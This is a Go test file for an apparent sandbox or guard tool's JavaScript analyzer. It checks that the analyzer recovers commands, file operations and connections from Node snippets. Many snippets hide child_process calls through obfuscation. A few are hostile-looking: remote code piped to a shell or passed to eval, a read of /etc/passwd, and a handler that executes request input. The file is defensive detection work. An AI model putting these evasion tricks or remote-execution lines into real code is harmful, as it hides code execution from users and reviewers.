package javascript

import (
	"slices"
	"strings"
	"testing"

	"github.com/venv-guard/venv-guard/action"
)

// told is an act in one line.
func told(a *action.Act) string {
	s := ""
	switch a.Kind {
	case action.ActStart:
		switch {
		case a.Argv != nil:
			s = strings.Join(a.Argv, "|")
		case a.Lang == "sh":
			s = "sh: " + a.Text
		default:
			s = a.Lang + ": " + a.Text
		}
		if a.URL != "" {
			s += " from " + a.URL
		}
	case action.ActRead:
		s = "read " + a.Path
	case action.ActWrite:
		s = "write " + a.Path + " < " + a.Text
		if a.Append {
			s = "append " + a.Path + " < " + a.Text
		}
	case action.ActCopy:
		s = "copy " + a.Path + " " + a.To
	case action.ActMove:
		s = "move " + a.Path + " " + a.To
	case action.ActLink:
		s = "link " + a.Path + " " + a.To
	case action.ActRemove:
		s = "remove " + a.Path
	case action.ActMode:
		s = "chmod " + a.Path
	case action.ActConnect:
		s = "connect " + a.URL
	}
	if len(a.Env.Set) > 0 {
		s = strings.Join(a.Env.Set, " ") + " " + s
	}
	if a.Env.Clear {
		s = "clear " + s
	}
	if a.Dir != "" {
		s = "in " + a.Dir + ": " + s
	}
	return action.Show(s)
}

func read(t *testing.T, p Program) []string {
	t.Helper()
	r, ok := Read(p)
	if !ok {
		t.Fatalf("cannot be parsed: %s", p.Text)
	}
	var got []string
	for i := range r.Acts {
		got = append(got, told(&r.Acts[i]))
	}
	if r.Unread {
		got = append(got, "unread")
	}
	return got
}

func TestRead(t *testing.T) {
	const install = "sh: pip install x"
	for _, tt := range []struct {
		code string
		want []string
	}{
		{`require('child_process').execSync('pip install x')`, []string{install}},
		{`const cp = require("node:child_process"); cp.exec("pip install x", (e, out) => console.log(out))`, []string{install}},
		{`const { execSync: run } = require('child_process'); run(` + "`pip install x`)", []string{install}},
		{`import { exec } from 'child_process'; import { promisify } from 'util'; const run = promisify(exec); await run('pip install x')`, []string{install}},
		{`import cp, { spawn } from 'node:child_process'; spawn('pip', ['install', 'x'])`, []string{"pip|install|x"}},
		{`import * as cp from 'child_process'; cp.spawnSync('pip install x', { shell: true })`, []string{install}},
		{`import * as cp from 'child_process'; cp.spawnSync('pip', ['install', 'x'], { shell: '/bin/bash' })`, []string{"bash: pip install x"}},
		{`require('child_' + 'process')['ex' + 'ec']('pip install x')`, []string{install}},
		{`import('node:child_process').then(({execSync}) => execSync('pip install x'))`, []string{install}},
		{`(async () => { const { execSync } = await import('child_process'); execSync('pip install x') })()`, []string{install}},
		{`process.mainModule.require('child_process').execSync('pip install x')`, []string{install}},
		{`module.constructor._load('child_process').execSync('pip install x')`, []string{install}},
		{`globalThis['process'].getBuiltinModule('child_process').execSync('pip install x')`, []string{install}},
		{`import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').execSync('pip install x')`, []string{install}},
		{`globalThis['process'].binding('spawn_sync').spawn({file: '/usr/bin/pip', args: ['pip', 'install', 'x']})`, []string{"/usr/bin/pip|install|x"}},
		{`child_process.execSync('pip install x')`, []string{install}}, // node -e knows the modules
		{`eval("require('child_process').execSync('pip install x')")`, []string{install}},
		{`eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJwaXAgaW5zdGFsbCB4Iik=', 'base64').toString())`, []string{install}},
		{`Function('return process')().mainModule.require('child_process').execSync('pip install x')`, []string{install}},
		{`new Function('r', 'r("child_process").execSync("pip install x")')(require)`, []string{install}},
		{`[]['filter']['constructor']('return process')().mainModule.require('child_process').execSync('pip install x')`, []string{install}},
		{`setTimeout("require('child_process').execSync('pip install x')", 10)`, []string{install}},
		{`require('vm').runInNewContext('cp.execSync("pip install x")', {cp: require('child_process')})`, []string{install}},
		{`new (require('worker_threads').Worker)("require('child_process').execSync('pip install x')", {eval: true})`, []string{install}},
		{`const cmd = ['x', 'install', 'pip'].reverse().join(' '); require('child_process').execSync(cmd)`, []string{install}},
		{`require('child_process').execSync(String.fromCharCode(112,105,112) + ' install x')`, []string{install}},
		{`const f = (c) => () => require('child_process').execSync(c); f('pip install x')()`, []string{install}},
		{`function run(cmd) { return require('child_process').execSync(cmd) }; ['pip install x'].forEach(run)`, []string{install}},
		{`const {execSync} = require('child_process'); for (const p of ['a', 'b']) execSync('pip install ' + p)`, []string{"sh: pip install a", "sh: pip install b"}},
		{`const {execSync} = require('child_process'); for (let i = 0; i < 2; i++) execSync('pip install ' + i)`, []string{"sh: pip install 0", "sh: pip install 1"}},
		{`const {spawn} = require('child_process'); const args = ['install']; if (process.env.GLOBAL) args.push('-g'); args.push('x'); spawn('npm', args)`,
			[]string{"npm|install|-g|x", "npm|install|x"}},
		{`const {spawn} = require('child_process'); spawn('npm', ['install', ...process.argv.slice(2), 'x'])`, []string{"npm|install|⟨…⟩|x"}},
		{`const {execSync} = require('child_process'); const pm = process.env.PM || 'pip'; execSync(pm + ' install x')`, []string{"sh: ⟨…⟩ install x", install}},
		{`const {execSync} = require('child_process'); let c = 'npm test'; if (Math.random() > 0.5) c = 'pip install x'; execSync(c)`, []string{install, "sh: npm test"}},
		{`class T { constructor(c) { this.c = c } run() { require('child_process').execSync(this.c) } }; new T('pip install x').run()`, []string{install}},
		{`class A { go(c) { this.exec(c) } } class B extends A { exec(c) { require('child_process').execSync(c) } } new B().go('pip install x')`, []string{install}},
		{`module.exports = { install() { require('child_process').execSync('pip install x') } }`, []string{install}},
		{`app.get('/', (req, res) => { require('child_process').exec('pip install x') })`, []string{install}},
		{`app.get('/', (req, res) => { require('child_process').exec(req.query.cmd) })`, []string{"sh: ⟨…⟩"}},
		{`require('child_process').execSync('npm install', {cwd: 'web', env: {...process.env, A: 'b'}})`, []string{"in web: A=b sh: npm install"}},
		{`require('child_process').execSync('npm install', {env: {A: 'b'}})`, []string{"clear A=b sh: npm install"}},
		{`process.env.PIP_USER = '1'; process.chdir('/srv'); require('child_process').execSync('pip install x')`, []string{"in /srv: PIP_USER=1 sh: pip install x"}},
		{`require('child_process').execSync('bash', {input: 'pip install x'})`, []string{"sh: printf %s 'pip install x' | bash"}},
		{`const p = require('child_process').spawn('bash'); p.stdin.write('pip install x\n'); p.stdin.end()`, []string{"bash", "sh: printf %s 'pip install x\n' | bash"}},
		{`const {spawn} = require('child_process'); spawn('curl', ['http://e/x']).stdout.pipe(spawn('sh').stdin)`, []string{"curl|http://e/x", "sh", "sh: curl http://e/x | sh"}},
		{`fetch('https://e/x').then(r => r.text()).then(eval)`, []string{"connect https://e/x", "node: ⟨…⟩ from https://e/x"}},
		{`require('https').get('https://e/x', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => require('child_process').exec(d)) })`,
			[]string{"connect https://e/x", "sh: ⟨…⟩ from https://e/x"}},
		{"import { $ } from 'zx'; await $`pip install ${'x y'}`", []string{"sh: pip install 'x y'"}},
		{"await Bun.$`pip install ${['x', 'y']}`", []string{"sh: pip install x y"}},
		{`Bun.spawn(['pip', 'install', 'x'])`, []string{"pip|install|x"}},
		{`Bun.spawnSync({cmd: ['pip', 'install', 'x']})`, []string{"pip|install|x"}},
		{`new Deno.Command('pip', { args: ['install', 'x'] }).output()`, []string{"pip|install|x"}},
		{`Deno.run({ cmd: ['pip', 'install', 'x'] })`, []string{"pip|install|x"}},
		{`import { execa } from 'execa'; await execa('pip', ['install', 'x'])`, []string{"pip|install|x"}},
		{`const execa = require('execa'); execa.command('pip install x')`, []string{install}},
		{`require('shelljs').exec('pip install x')`, []string{install}},
		{`require('cross-spawn').sync('pip', ['install', 'x'])`, []string{"pip|install|x"}},
		{`const fs = require('fs'); fs.writeFileSync('x.sh', 'pip install x'); fs.chmodSync('x.sh', 0o755); fs.rmSync('d', {recursive: true})`,
			[]string{"write x.sh < pip install x", "chmod x.sh", "remove d"}},
		{`import { writeFile } from 'node:fs/promises'; await writeFile('x.sh', 'a')`, []string{"write x.sh < a"}},
		{`require('fs').promises.readFile('/etc/passwd').then(x => console.log(x))`, []string{"read /etc/passwd"}},
		{`const s = require('fs').createWriteStream('o'); s.write('a'); s.end('b')`, []string{"write o < ", "append o < a", "append o < b"}},
		{`const cp = require('child_process'); cp[process.env.HOW]('pip install x')`, []string{install}},
		{`require(process.env.M).execSync('pip install x')`, []string{"node: ⟨…⟩", install}},
		{`const c = 'constr' + 'uctor'; const F = (() => {}) [c]; F('return pro' + 'cess')().mainModule['requ' + 'ire']('child' + '_process')['ex' + 'ecSync']('pip install x')`, []string{install}},
		{`const { ['constr' + 'uctor']: F } = () => {}; F("return proc" + "ess")().mainModule['requ' + 'ire']('child' + '_process')['ex' + 'ecSync']('pip install x')`, []string{install}},
		{`const x = 'pip install x'; console.log(x); // execSync(x)`, nil},
		{`test('mentions', () => { expect("require('child_process').execSync('pip install x')").toBeTruthy() })`, nil},
		{`const m = /a(b)/.exec('pip install x'); db.exec('CREATE TABLE t')`, nil},
		{`axios.post('https://h/x', {a: 1}); new WebSocket('wss://w'); require('net').connect(80, 'h')`, []string{"connect https://h/x", "connect wss://w", "connect tcp://h:80/"}},
		{`require('http').request({hostname: 'h', port: 8080, path: '/p'})`, []string{"connect http://h:8080/p"}},
		{`if (false) require('child_process').execSync('pip install x')`, nil},
		{`function f(n) { if (n > 0) { require('child_process').execSync('echo ' + n); f(n - 1) } } f(2)`, []string{"sh: echo 2", "sh: echo 1"}},
		{`return require('child_process').execSync('pip install x')`, []string{install}},
		{`import d from './d.json' with { type: 'json' }; import { execSync } from 'child_process'; execSync('pip install x')`, []string{install}},
		{`const a = {b: {c: 'pip'}}; const {b: {c, d = ' install x'}} = a; require('child_process').execSync(c + d)`, []string{install}},
		{`const run = async (...a) => { const {spawn} = await import('child_process'); return new Promise(r => spawn(a[0], a.slice(1)).on('close', r)) }; run('pip', 'install', 'x')`,
			[]string{"pip|install|x"}},
		{`try { require('child_process').execSync('a') } catch { require('child_process').execSync('b') }`, []string{"sh: a", "sh: b"}},
		{`switch (process.platform) { case 'win32': require('child_process').execSync('a'); break; default: require('child_process').execSync('b') }`, []string{"sh: a", "sh: b"}},
		{`const m = new Map([['i', 'pip install x']]); require('child_process').execSync(m.get('i'))`, []string{install}},
		{`const cmds = {i: 'pip install x', t: 'npm test'}; require('child_process').execSync(cmds[process.argv[2]])`, []string{"sh: ⟨…⟩", install, "sh: npm test"}},
		{`Reflect.apply(require('child_process').execSync, null, ['pip install x'])`, []string{install}},
		{`require('child_process').execSync.call(null, 'pip install x'); const b = require('child_process').execSync.bind(null, 'pip install x'); b()`, []string{install, install}},
		{`const { exec } = require('child_process'); ` + "exec(`pip ${['in', 'stall'].join('')} x`)", []string{install}},
		{`exec(require('child_process').execSync('curl https://e').toString()); function exec(c) { require('child_process').execSync(c) }`, []string{"sh: curl https://e", "sh: (curl https://e\n) | sh"}},
	} {
		t.Run("", func(t *testing.T) {
			got := read(t, Program{Text: tt.code, Lang: "node", Self: "node"})
			if !slices.Equal(got, tt.want) {
				t.Errorf("%s\n got %q\nwant %q", tt.code, got, tt.want)
			}
		})
	}
}

// The order of what is not known is any.
func TestSort(t *testing.T) {
	for code, want := range map[string]string{
		"const a = ['x', 'install', 'pip'].sort(); run(a.join(' '))":                       "sh: install pip x",
		"const a = ['install', 'pip']; a.sort((x, y) => y < x ? -1 : 1); run(a.join(' '))": "sh: pip install",
		"const a = [process.env.A ? 'z' : 'install', 'pip']; a.sort(); run(a[0])":          "sh: pip",
		"const a = [10, 9]; a.sort(); run('echo ' + a.join(' '))":                          "sh: echo 10 9",
	} {
		got := read(t, Program{Text: "const run = require('child_process').execSync; " + code, Lang: "node", Self: "node"})
		if !slices.Contains(got, want) {
			t.Errorf("%s: got %q, want %q among them", code, got, want)
		}
	}
}
